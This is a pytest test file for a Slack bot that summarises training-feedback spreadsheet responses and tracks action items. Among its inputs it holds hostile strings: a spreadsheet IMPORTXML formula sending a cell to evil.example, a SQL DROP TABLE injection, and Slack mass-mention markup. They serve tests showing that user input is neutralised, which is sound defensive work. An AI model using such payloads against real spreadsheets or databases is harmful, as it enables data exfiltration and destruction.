"""What people type wrong, oddly or with bad intent: a clear message in the right place, and the run goes on."""

from __future__ import annotations

import json
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from bot.cli import OK
from integrations.errors import IntegrationError
from integrations.sandbox.clock import SandboxClock
from integrations.sandbox.google.person import PersonAtSheet
from integrations.sandbox.server import Sandbox
from tests.journeys.team import MONDAY_MORNING, RESPONSES, Team, Ticking, words_of

THURSDAY = datetime(2026, 3, 19, 8, 0, tzinfo=UTC)
EARLIER = MONDAY_MORNING - timedelta(days=4)
SECRET_WORDS = "My manager Rhiannon Oakes never reads these"


def fill(team: Team, **answers: Any) -> None:
    team.cohort_answers("2026-SPR-ON-01", 7, at=EARLIER, **answers)


def the_digest(team: Team) -> str:
    """Read the digest with all that hangs from it."""
    [digest] = team.messages()
    return "\n".join(map(words_of, team.messages(thread_ts=digest["ts"])))


def column_of(person: PersonAtSheet, title: str) -> str:
    place = person.read(f"'{RESPONSES}'!1:1")[0].index(title)
    return chr(ord("A") + place) if place < 26 else "A" + chr(ord("A") + place - 26)


# --- answers


def test_a_row_that_cannot_be_read_is_told_with_its_place_and_the_others_count(team: Team) -> None:
    fill(team)
    team.at_sheet(
        lambda person: person.type(f"'{RESPONSES}'!{column_of(person, 'The training met my needs')}3", "very much")
    )
    desk = Ticking(team)

    for _ in range(3):
        desk.ticks()
        team.clock.move_on(timedelta(minutes=5))

    [told] = team.told()
    assert "1 response could not be read" in told
    assert f'tab "{RESPONSES}", row 3' in told
    assert "The training met my needs" in told
    assert "6 forms from 1 cohort" in the_digest(team)

    team.at_sheet(lambda person: person.type(f"'{RESPONSES}'!{column_of(person, 'The training met my needs')}3", "4"))
    assert "7 in all" in desk.bot.refresh()


@pytest.mark.parametrize(
    "text",
    [
        "x" * 20_000,
        "<!channel> <@U08AAAAAAAF> <!subteam^S123|@team> & <https://evil.example|click>",
        "@channel @here",
        '=IMPORTXML("http://evil.example/?q="&A1,"//a")',
        "'; DROP TABLE responses; --",
        "\u202egnirts thgil\u202c \x07 🙃",
    ],
)
def test_nothing_a_learner_writes_reaches_slack_or_pings_anybody_or_runs(team: Team, text: str) -> None:
    fill(team, most_useful=text, should_change=text)

    team.bot().timetable().tick()

    words = the_digest(team)
    assert "7 forms from 1 cohort" in words
    assert text[:40] not in words
    assert "evil.example" not in words
    assert team.pings() == set()
    assert team.told() == []


def test_a_cohort_of_one_is_counted_and_nothing_of_it_is_shown(team: Team) -> None:
    team.cohort_answers("2026-SPR-ON-01", 1, at=EARLIER, met_needs="1")

    team.bot().timetable().tick()

    words = the_digest(team)
    assert "1 form from 1 cohort" in words
    assert "2026-SPR-ON-01" not in words
    assert "%" not in words


def test_forms_left_blank_are_counted_and_make_no_figure(team: Team) -> None:
    keys = [question.key for question in team.form_map.questions if question.is_kept]
    fill(team, **dict.fromkeys(keys, None))

    team.bot().timetable().tick()

    words = the_digest(team)
    assert "7 forms from 1 cohort" in words
    assert "nan" not in words.lower()
    assert "%" not in words


def test_no_forms_at_all_is_a_quiet_week(team: Team) -> None:
    team.bot().timetable().tick()

    assert "Nothing new this week, still working" in the_digest(team)


def test_test_entries_are_left_out_and_counted(team: Team) -> None:
    fill(team)
    team.cohort_answers("TEST", 1, at=EARLIER)
    team.cohort_answers("2026-SPR-ON-01", 1, at=EARLIER + timedelta(hours=1), most_useful="This is a test")

    team.bot().timetable().tick()

    words = the_digest(team)
    assert "7 forms from 1 cohort" in words
    assert "2 test forms left out" in words


def test_a_question_that_was_renamed_is_told_and_its_answers_go_under_nothing_else(team: Team) -> None:
    fill(team)
    team.does_to_form("rename_item", "The training met my needs", "The course met my needs")

    team.bot().timetable().tick()

    words = the_digest(team)
    assert 'has no column "The training met my needs"' in words
    assert "*Met my needs* — 7 of 7" not in words
    assert any('has no column "The training met my needs"' in told for told in team.told())


# --- files and tokens


def test_a_missing_responses_tab_is_told_with_the_tabs_that_are_there_and_the_plan_goes_on(team: Team) -> None:
    team.clock.hold_at(THURSDAY)
    team.change_settings(f'tab = "{RESPONSES}"', 'tab = "Answers"')
    desk = Ticking(team)
    desk.ticks()
    team.types_row(2, Action="Shorten the icebreaker")

    for _ in range(3):
        desk.later(minutes=11)

    [told] = team.told()
    assert '"Answers"' in told
    assert desk.action("ACT-0001").title == "Shorten the icebreaker"


def test_a_token_that_slack_refuses_stops_nothing_but_what_needs_slack(
    team: Team, caplog: pytest.LogCaptureFixture
) -> None:
    fill(team)
    token = team.app.bot_token
    env = (team.folder / ".env").read_text().replace(token, "xoxb-0000-wrong")
    (team.folder / ".env").write_text(env)
    desk = Ticking(team)

    desk.ticks()

    assert "7 in all" in desk.bot.refresh()
    assert "xoxb-" not in caplog.text
    assert team.said() == []


def test_a_key_file_that_is_no_key_says_so_before_anything_starts(team: Team) -> None:
    (team.folder / "service-account.json").write_text(json.dumps({"type": "service_account"}))

    with pytest.raises(IntegrationError, match=r"service-account\.json"):
        team.bot()


# --- what is typed into Slack


@pytest.mark.parametrize(
    "title",
    [
        "<!channel> look at this",
        "Tell @channel & @here",
        "Write <https://evil.example|here> & there",
        "*bold* _it_ ~strike~ `code`",
    ],
)
def test_the_words_of_an_action_ping_nobody_wherever_they_are_shown(team: Team, title: str) -> None:
    team.clock.hold_at(THURSDAY)
    with team.running() as bot:
        team.types("Ana", "/action add")
        team.sends("Ana", team.open_form("Ana"), title=title, owner=team.people["Ana"], due="2026-03-20")
        team.wait_until(lambda: len(bot.actions()) == 1)
        team.asks("Ben", "/action list")
        bot.refresh()
        bot.digest()
        bot.remind()

        assert bot.actions()[0].title == title
        assert team.plan_row("ACT-0001")["Action"] == title
        assert team.pings() <= {team.people["Ana"]}  # the digest names the owner of what is due, and nobody else


def test_a_very_long_line_opens_the_form_with_as_much_as_an_action_may_hold(team: Team) -> None:
    with team.running() as bot:
        team.types("Ana", "/action add " + "Shorten the icebreaker " * 300 + "@ben by Friday")

        form = team.open_form("Ana")

        assert "longer than 300 characters" in words_of(form)
        assert bot.actions() == ()


# --- the log


def test_the_log_of_a_whole_journey_holds_no_comment_no_title_and_no_token(tmp_path: Path) -> None:
    with Sandbox.start() as sandbox:
        team = Team(sandbox, tmp_path / "config", clock=SandboxClock())
        team.cohort_answers("2026-SPR-ON-01", 7, most_useful=SECRET_WORDS)
        needs = team.at_sheet(lambda person: column_of(person, "The training met my needs"))
        team.at_sheet(lambda person: person.type(f"'{RESPONSES}'!{needs}3", SECRET_WORDS))
        command = [sys.executable, "-m", "bot.cli", "run", "--config", str(team.settings_file)]
        process = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        team.wait_until(lambda: team.is_connected() and bool(team.told()), seconds=60)
        team.asks("Ana", f'/action add "{SECRET_WORDS}" for me by Friday')
        team.wait_until(lambda: team.has_plan() and len(team.plan_rows()) == 1)
        team.types_row(3, Action="Another " + SECRET_WORDS, Status=SECRET_WORDS)
        team.breaks(kind="503", path="/v4/*", times=3, retry_after=0)
        team.asks("Ana", '/action add "Book the hall" for me by Friday')
        team.wait_until(lambda: len([row for row in team.plan_rows() if row["Ref"]]) == 3, seconds=60)

        process.terminate()
        printed, log = process.communicate(timeout=60)

    assert process.returncode == OK
    assert "Nothing in hand was lost." in printed
    assert "google_asked_again" in log
    assert "plan_synced" in log
    for secret in (SECRET_WORDS, "Rhiannon", team.app.bot_token, team.app.app_token, "PRIVATE KEY", "ya29."):
        assert secret not in log + printed
